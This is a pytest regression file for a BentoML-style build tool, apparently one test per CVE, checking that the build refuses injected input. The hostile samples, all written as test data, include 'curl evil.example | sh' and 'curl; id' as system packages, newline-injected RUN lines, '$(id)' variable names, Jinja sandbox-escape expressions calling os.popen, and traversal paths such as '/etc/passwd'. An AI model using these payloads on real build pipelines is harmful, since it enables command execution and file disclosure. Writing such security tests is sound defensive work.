"""What has been found to be exploitable in implementations of this interface, class by class.

Those that concern building a project are here, one test each. The others have theirs where the code is:

- Bytes from a network that run code (CVE-2024-2912, CVE-2024-9070, CVE-2025-27520, CVE-2025-32375):
  `test_decoders.py` here and `tests/runtime/codec`.
- Multipart bodies that keep a server busy (CVE-2024-9056, CVE-2024-8966): `test_decoders.py` here and
  `tests/runtime/serving/test_body.py`.
- Files fetched from addresses that a caller names (CVE-2025-54381): `tests/runtime/serving/test_fetch.py`.
- Archives that write outside of their folder (CVE-2026-27905): `tests/cli/store/test_archive.py`.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from bento_cli.build import plan_build
from bento_cli.build.writing import render_bento, write_bento
from bento_cli.errors import BentoError, InputError
from bento_cli.store import Store
from bento_cli.store.bento import Tag

SERVICE = "import bentoml\n\n@bentoml.service\nclass Entry: ...\n"

Write = Callable[..., Path]
Refusal = Callable[..., str]


@pytest.fixture
def project(tmp_path: Path) -> Write:
    """`project(docker={...})`: a project of one service, with these fields in its bentofile."""

    def write(service: str = SERVICE, **fields: Any) -> Path:
        root = tmp_path / "project"
        root.mkdir(exist_ok=True)
        (root / "service.py").write_text(service)
        (root / "bentofile.yaml").write_text(json.dumps({"service": "service:Entry", **fields}))
        return root

    return write


@pytest.fixture
def refusal(project: Write) -> Refusal:
    """Why such a project is not built."""

    def refused(service: str = SERVICE, **fields: Any) -> str:
        with pytest.raises(InputError) as caught:
            plan_build(project(service, **fields))
        return caught.value.message

    return refused


def test_a_system_package_runs_no_command(refusal: Refusal) -> None:
    """CVE-2026-33744."""
    message = refusal(docker={"system_packages": ["curl && curl evil.example | sh"]})

    assert "docker.system_packages.0" in message


def test_a_system_package_of_an_image_runs_no_command(refusal: Refusal) -> None:
    """CVE-2026-33744, by the other way to name one."""
    image = "bentoml.images.Image().system_packages('curl; id')"

    assert "`system_packages`" in refusal(
        f"import bentoml\n\n@bentoml.service(image={image})\nclass Entry: ...\n"
    )


@pytest.mark.parametrize(
    "image", ["python:3.11\nRUN id", "python:3.11 AS x\nRUN id", "python:3.11\r\nRUN id"]
)
def test_a_base_image_adds_no_instruction(refusal: Refusal, image: str) -> None:
    """CVE-2026-44345."""
    assert "docker.base_image" in refusal(docker={"base_image": image})


@pytest.mark.parametrize("name", ["A=1\nRUN id", "A B", "A\r", "$(id)"])
def test_a_name_of_a_variable_adds_no_instruction(refusal: Refusal, name: str) -> None:
    """CVE-2026-44346."""
    assert "envs.0.name" in refusal(envs=[{"name": name, "value": "1"}])


@pytest.mark.parametrize("name", ["A=1\nRUN id", "A B"])
def test_a_key_of_docker_env_adds_no_instruction(refusal: Refusal, name: str) -> None:
    """Named in public issues; no number yet."""
    assert "docker.env" in refusal(docker={"env": {name: "1"}})


@pytest.mark.parametrize(
    "expression",
    [
        "cycler.__init__.__globals__.os.popen('id').read()",
        "''.__class__.__mro__[1].__subclasses__()",
        "bento__path.format.__globals__",
    ],
)
def test_a_template_runs_nothing(project: Write, expression: str) -> None:
    """CVE-2026-35044."""
    root = project(docker={"dockerfile_template": "Dockerfile.j2"})
    block = f"{{% block SETUP_BENTO_USER %}}{{{{ {expression} }}}}{{% endblock %}}"
    (root / "Dockerfile.j2").write_text(f"{{% extends bento_base_template %}}{block}")

    with pytest.raises(BentoError, match="`dockerfile_template` of Entry"):
        render_bento(plan_build(root), Tag("entry", "1"), created="", digest="")


@pytest.mark.parametrize("path", ["/etc/passwd", "../secret", "a/../../secret", "..\\secret"])
@pytest.mark.parametrize(
    ("section", "field"),
    [("docker", "setup_script"), ("docker", "dockerfile_template"), ("python", "requirements_txt")],
)
def test_a_path_leads_out_of_no_project(
    refusal: Refusal, tmp_path: Path, section: str, field: str, path: str
) -> None:
    """CVE-2026-24123."""
    (tmp_path / "secret").write_text("hidden")

    assert "hidden" not in refusal(**{section: {field: path}})


def test_a_script_that_a_build_needs_is_no_line_of_its_shell(project: Write) -> None:
    """CVE-2026-35043: a file's name and what it holds stay files."""
    name = "set up; id $(id).sh"
    root = project(docker={"setup_script": name})
    (root / name).write_text("#!/bin/sh\n")

    files = render_bento(plan_build(root), Tag("entry", "1"), created="", digest="")

    [line] = [line for line in files["services/Entry/Dockerfile"].splitlines() if '"-c"' in line]
    assert json.loads(line) == ["/bin/sh", "-c", '"$0"', f"/opt/bento/src/{name}"]


def test_what_a_link_leads_to_is_no_part_of_a_bento(project: Write, tmp_path: Path) -> None:
    """CVE-2026-40610."""
    (tmp_path / "secret").write_text("secret")
    root = project()
    (root / "linked").symlink_to(tmp_path / "secret")
    (root / "folder").symlink_to(tmp_path)

    bento, _ = write_bento(plan_build(root), Store(tmp_path / "home"))

    files = [path for path in bento.path.rglob("*") if path.is_file()]
    assert not [path for path in files if path.read_bytes() == b"secret"]
    assert sorted(path.name for path in bento.source.iterdir()) == ["bentofile.yaml", "service.py"]


def test_a_value_given_when_deploying_is_in_no_image(project: Write) -> None:
    """By design elsewhere: values in clear text, baked into layers."""
    root = project(envs=[{"name": "TOKEN"}])

    files = render_bento(plan_build(root), Tag("entry", "1"), created="", digest="")

    assert "TOKEN" not in files["services/Entry/Dockerfile"]


def test_reading_a_project_runs_none_of_it(project: Write, tmp_path: Path) -> None:
    """By design elsewhere: building runs the project."""
    witness = tmp_path / "ran"

    plan_build(project(f"open({str(witness)!r}, 'w')\n{SERVICE}"))

    assert not witness.exists()
